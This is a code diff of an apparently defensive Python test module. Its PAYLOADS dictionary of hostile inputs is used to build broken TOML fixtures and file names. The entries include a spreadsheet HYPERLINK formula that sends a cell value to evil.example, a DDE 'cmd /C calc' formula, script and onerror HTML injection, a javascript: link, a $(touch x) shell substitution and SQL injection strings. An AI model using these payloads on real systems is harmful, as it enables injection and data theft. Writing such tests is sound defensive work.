@@ -38,8 +38,10 @@ PAYLOADS: Final = {
     "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "formulas by other signs": "+1+cmd|' /C calc'!A0",
     "a formula behind blanks": "\t =1+1",
-    "Markdown and HTML": "</td><script>x</script> ![i](http://evil.example/i) [l](javascript:x) | `c` **b** <!-- #",
-    "quotes and escapes": "\"quoted\" 'single' \\x1b \\ '; DROP TABLE fact; -- %s {0} {x} $(touch x) `x` %0A::error::x",
+    "HTML": "</td><script>x</script> &lt; <!-- <img src=x onerror=x>",
+    "Markdown": "![i](http://evil.example/i) [l](javascript:x) | `c` **b** #",
+    "quotes and escapes": "\"quoted\" 'single' \\x1b \\ %s {0} {x} $(touch x) `x` %0A::error::x",
+    "SQL": "'; DROP TABLE fact; --",
     "questions to SQLite": '" OR 1=1 NEAR(a b) a* -b NOT ^c col:x "',
     "a long word": "x" * 600,
     "wide characters": "漢字かな交じり文" * 8,
@@ -196,7 +198,7 @@ sources = ["s{n}"]
 
 
 def mistakes(number: int, text: str) -> str:
-    """Entries with the text where no text belongs: in ids, keys, tables, references, dates, amounts and words."""
+    """Entries with the text where none belongs: in ids, keys, tables, references, dates and amounts."""
     t, n = toml(text), number
     return f"""
 [people.{t}]
@@ -255,7 +257,7 @@ def odd_base(root: Path) -> Path:
 
 
 def broken_base(root: Path) -> Path:
-    """A base of mistakes, with file names of payloads too, and the payloads as they are instead of escaped."""
+    """A base of mistakes, with payloads for names of files too, and as they are instead of escaped."""
     base = make(root, "".join(mistakes(n, text) for n, text in enumerate(PAYLOADS.values())))
     for n, text in enumerate([*PAYLOADS.values(), *SURROGATES.values()]):
         raw = text.encode("utf-8", "surrogatepass")
@@ -268,7 +270,8 @@ def broken_base(root: Path) -> Path:
         try:
             folder.mkdir()
             (folder / f"{name}.toml").write_text(
-                f'[events.named{n}]\ntitle = 1\n[events.named-{n}]\ntitle = "y"\n', "utf-8"
+                f'[events.named{n}]\ntitle = 1\n[events.other{n}]\ntitle = "y"\n[events.twice]\ntitle = "z"',
+                "utf-8",
             )
         except (OSError, UnicodeEncodeError):  # this system has no such name
             continue
